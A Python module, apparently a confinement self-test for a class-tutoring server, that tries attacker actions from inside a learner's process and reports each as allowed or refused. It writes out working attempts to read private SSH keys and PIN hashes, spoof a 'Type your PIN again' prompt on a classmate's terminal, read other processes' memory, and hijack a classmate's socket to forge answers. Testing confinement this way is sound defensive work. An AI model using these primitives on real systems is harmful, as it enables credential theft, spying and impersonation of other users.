"""What a learner's process of a class could do once its code is the attacker's: one line each, on its terminal.

It runs inside the real process, after everything that confines it and before the learner's first byte, with at least
one classmate in. Only Linux on x86-64; only the standard library.
"""

from __future__ import annotations

import ctypes
import fcntl
import json
import mmap
import os
import resource
import socket
import sqlite3
import struct
import sys
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

libc = ctypes.CDLL(None, use_errno=True)
PTRACE, PROCESS_VM_READV, PIDFD_GETFD, PIDFD_OPEN = 101, 310, 438, 434
"""Numbers of x86-64: ``man 2 syscalls``, asm/unistd_64.h."""


def say(*words: object) -> None:
    os.write(1, (" ".join(map(str, words)) + "\r\n").encode())


def tried(what: str, act: Callable[[], object]) -> None:
    try:
        say("CAN    ", what, "->", act())
    except BaseException as error:
        say("refused", what, "->", type(error).__name__, str(error)[:80])


def checked(result: int, what: str) -> int:
    """A system call's result; ``OSError`` where it failed."""
    if result < 0:
        raise OSError(ctypes.get_errno(), what)
    return result


def family() -> tuple[int, int, list[int]]:
    """The process that forks, the server, and the classmates' processes, as /proc tells them."""
    parent = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                parent[int(entry)] = int(Path(f"/proc/{entry}/stat").read_text().rpartition(")")[2].split()[1])
            except OSError:
                continue
    me, forker = os.getpid(), os.getppid()
    return forker, parent.get(forker, 0), [pid for pid, above in parent.items() if above == forker and pid != me]


def heap(pid: int) -> int:
    for line in Path(f"/proc/{pid}/maps").read_text().splitlines():
        if "[heap]" in line:
            return int(line.split("-")[0], 16)
    raise OSError("no heap")


def files(folder: Path) -> None:
    """What lies in the class's folder."""
    store, key = folder / "class.sqlite", folder / "host_ed25519"

    def ask(query: str) -> list[Any]:
        return sqlite3.connect(f"file:{store}?mode=ro", uri=True).execute(query).fetchall()

    def write() -> int:
        with open(store, "r+b", buffering=0) as file:
            file.seek(100)
            return file.write(b"\0")

    def by_mmap() -> str:
        # RLIMIT_FSIZE does not count this.
        with open(store, "r+b") as file, mmap.mmap(file.fileno(), 0) as memory:
            memory[40] = memory[40]
            return f"{len(memory)} bytes"

    def make() -> str:
        (folder / "evil").mkdir()
        (folder / "evil/link").symlink_to("/")
        (folder / "evil/link").unlink()
        (folder / "evil").rmdir()
        return "a folder and a link"

    tried("read the server's private key", lambda: len(key.read_bytes()))
    tried("read the account's own ssh key", lambda: len((Path.home() / ".ssh/id_ed25519").read_bytes()))
    tried("read all learners' events", lambda: ask("select count(*), count(distinct learner) from events"))
    tried("read hashes of PINs", lambda: ask("select name from states where name like 'pin%' limit 2"))
    tried("write to the store", write)
    tried("change the store through mmap", by_mmap)
    tried("make files in the class's folder", make)
    tried("make files in the folder for temporary files", lambda: os.open("/tmp/evil", os.O_CREAT | os.O_WRONLY))


def classmates(own: socket.socket, server: int, mates: list[int]) -> None:
    """What belongs to others."""
    mate = mates[0]

    def draw() -> int:
        return os.write(
            os.open(os.readlink(f"/proc/{mate}/fd/1"), os.O_RDWR | os.O_NOCTTY), b"\x1b[1;1HType your PIN again:"
        )

    def peek(pid: int) -> int:
        with open(f"/proc/{pid}/mem", "rb") as memory:
            memory.seek(heap(pid))
            return len(memory.read(1 << 16))

    def vm_read() -> int:
        here = ctypes.create_string_buffer(8)
        local = struct.pack("QQ", ctypes.addressof(here), 8)
        remote = struct.pack("QQ", heap(mate), 8)
        return checked(libc.syscall(PROCESS_VM_READV, mate, local, 1, remote, 1, 0), "process_vm_readv")

    def trace() -> int:
        attached = checked(libc.syscall(PTRACE, 16, mate, 0, 0), "ptrace")
        os.waitpid(mate, 0x40000000)
        libc.syscall(PTRACE, 17, mate, 0, 0)
        return attached

    def forge() -> str:
        handle = checked(libc.syscall(PIDFD_OPEN, mate, 0), "pidfd_open")
        taken = socket.socket(fileno=checked(libc.syscall(PIDFD_GETFD, handle, own.fileno(), 0), "pidfd_getfd"))
        event = ["answered", "slope", {"question": "forged", "answer": "0", "right": False, "reason": ""}, "", 0.0, 0]
        taken.sendall(json.dumps({"append": [event]}).encode() + b"\n")
        return "an event in the classmate's name"

    tried("write on a classmate's screen", draw)
    tried("read a classmate's memory", lambda: peek(mate))
    tried("read a classmate's memory by process_vm_readv", vm_read)
    tried("trace a classmate", trace)
    tried("take a classmate's socket and forge an answer", forge)

    def owner() -> str:
        one, other = socket.socketpair()
        fcntl.fcntl(one, fcntl.F_SETOWN, mate)
        fcntl.fcntl(one, fcntl.F_SETFL, os.O_ASYNC)
        other.send(b"x")
        return "a signal by way of the kernel"

    tried("signal a classmate", lambda: os.kill(mate, 0))
    tried("signal everybody", lambda: os.kill(-1, 0))
    tried("have the kernel signal a classmate", owner)
    tried("take a classmate's processor time away", lambda: resource.prlimit(mate, resource.RLIMIT_CPU, (1, 1)))
    tried("let a classmate wait", lambda: os.setpriority(os.PRIO_PROCESS, mate, 19))
    tried("move a classmate to one processor", lambda: os.sched_setaffinity(mate, {0}))
    tried("read the server's memory", lambda: peek(server))
    tried("signal the server", lambda: os.kill(server, 0))


def termios_push() -> int:
    """``TIOCSTI``."""
    return fcntl.ioctl(0, 0x5412, b"x")  # type: ignore[return-value]


def system(port: int) -> None:
    """What leads out."""

    def fork() -> int:
        child = os.fork()
        if child == 0:
            os._exit(0)
        return os.waitpid(child, 0)[1]

    def thread() -> str:
        threading.Thread(target=int).start()
        return "a thread"

    def abstract() -> str:
        with socket.socket(socket.AF_UNIX) as one:
            one.bind("\0gradtutor-taken-over")
            return "an abstract socket"

    def execute() -> None:
        os.execv("/bin/sh", ["sh", "-c", "echo 'CAN     become another program'"])

    def of_memory() -> None:
        program = os.memfd_create("evil")
        os.write(program, Path(sys.executable).read_bytes())
        os.execve(program, ["python"], {})

    tried("connect to a TCP port", lambda: socket.create_connection(("127.0.0.1", port), 3).recv(20))
    tried("listen at a TCP port", lambda: socket.create_server(("0.0.0.0", 0)).getsockname())
    tried("open a UDP socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).fileno())
    tried("open an abstract socket", abstract)
    tried("listen at a path", lambda: socket.socket(socket.AF_UNIX).bind(f"/tmp/evil-{os.getpid()}"))
    tried("press a key that nobody has pressed", lambda: termios_push())
    tried("change a file's rights", lambda: os.chmod("/tmp", 0o1777))
    tried("change a file's dates", lambda: os.utime("/tmp"))
    tried("read /etc/passwd", lambda: len(Path("/etc/passwd").read_bytes()))
    tried("list the temporary folder", lambda: len(os.listdir("/tmp")))
    tried("make a user namespace", lambda: checked(libc.unshare(0x10000000), "unshare"))
    tried("start a thread", thread)
    tried("fork", fork)
    tried("fork by the old call", lambda: checked(libc.syscall(57), "fork"))
    tried("fork by the newest call", lambda: checked(libc.syscall(435, 0, 0), "clone3"))
    tried("become another program", execute)
    tried("become a program of memory", of_memory)


def look(own: socket.socket, folder: Path, port: int, known: tuple[int, int, list[int]]) -> None:
    """Try everything; one line each. ``known`` is the ``family``, found out before anything was given up."""
    _, server, mates = known
    tried("list the processes", lambda: len(os.listdir("/proc")))
    tried("read what the server was started with", lambda: Path(f"/proc/{server}/cmdline").read_bytes())
    files(Path(folder))
    classmates(own, server, mates)
    system(port)
    say("that was all")
